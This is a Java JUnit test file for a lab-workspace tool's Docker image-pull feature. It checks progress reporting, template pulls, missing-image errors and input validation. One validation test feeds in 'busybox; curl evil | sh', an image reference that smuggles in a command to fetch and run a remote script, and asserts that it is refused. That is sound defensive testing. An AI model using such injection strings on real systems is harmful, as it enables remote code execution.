package dev.labhand.workspace;

import static dev.labhand.support.TestApp.instructor;
import static dev.labhand.support.TestApp.learner;
import static org.assertj.core.api.Assertions.assertThat;

import dev.labhand.support.DockerPeer;
import dev.labhand.support.TestApp;
import dev.labhand.tool.Origin;
import dev.labhand.tool.Outcome;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Pulls through docker-java from the real loopback registry that scripts/peers.sh runs. */
final class ImagePullTest {
    @TempDir
    Path dir;

    private TestApp t;

    @BeforeEach
    void start() {
        t = new TestApp(dir);
        DockerPeer.requireRegistry();
        DockerPeer.removeImage(DockerPeer.REGISTRY_IMAGE);
    }

    @AfterEach
    void stop() {
        t.close();
        DockerPeer.removeImage(DockerPeer.REGISTRY_IMAGE);
    }

    @Test
    void should_pull_an_image_with_progress() {
        List<String> progress = new CopyOnWriteArrayList<>();

        Outcome o = t.app.gateway.invoke(instructor("ines"), "image.pull", Map.of("image", DockerPeer.REGISTRY_IMAGE),
                Origin.SLASH, progress::add);

        assertThat(o).isInstanceOf(Outcome.Done.class);
        assertThat(((Outcome.Done) o).command()).isEqualTo("docker pull " + DockerPeer.REGISTRY_IMAGE);
        assertThat(t.app.docker.hasImage(DockerPeer.REGISTRY_IMAGE)).isTrue();
        assertThat(progress.get(0)).isEqualTo("pulling " + DockerPeer.REGISTRY_IMAGE);
        assertThat(progress.get(progress.size() - 1)).isEqualTo("pulled " + DockerPeer.REGISTRY_IMAGE);
        assertThat(((Outcome.Done) t.call(learner("alice"), "image.list", Map.of())).text())
                .contains(DockerPeer.REGISTRY_IMAGE);
    }

    @Test
    void should_pull_a_template_image_on_first_create() {
        List<String> progress = new CopyOnWriteArrayList<>();

        Outcome o = t.app.gateway.invoke(learner("alice"), "workspace.create",
                Map.of("template", "registry-cpu", "name", "ip-first"), Origin.CONSOLE, progress::add);

        assertThat(o).isInstanceOf(Outcome.Done.class);
        assertThat(progress).contains("pulling " + DockerPeer.REGISTRY_IMAGE, "pulled " + DockerPeer.REGISTRY_IMAGE,
                "creating container lh-ip-first");
    }

    @Test
    void should_explain_an_image_the_registry_does_not_have() {
        String absent = DockerPeer.REGISTRY + "/labhand-test/busybox:no-such-tag";

        Outcome o = t.call(instructor("ines"), "image.pull", Map.of("image", absent));

        assertThat(o).isInstanceOf(Outcome.Failed.class);
        assertThat(((Outcome.Failed) o).text()).contains("does not exist or cannot be reached");
    }

    @Test
    void should_refuse_an_image_reference_that_is_not_one() {
        Outcome o = t.call(instructor("ines"), "image.pull", Map.of("image", "busybox; curl evil | sh"));

        assertThat(o).isInstanceOf(Outcome.Invalid.class);
    }
}
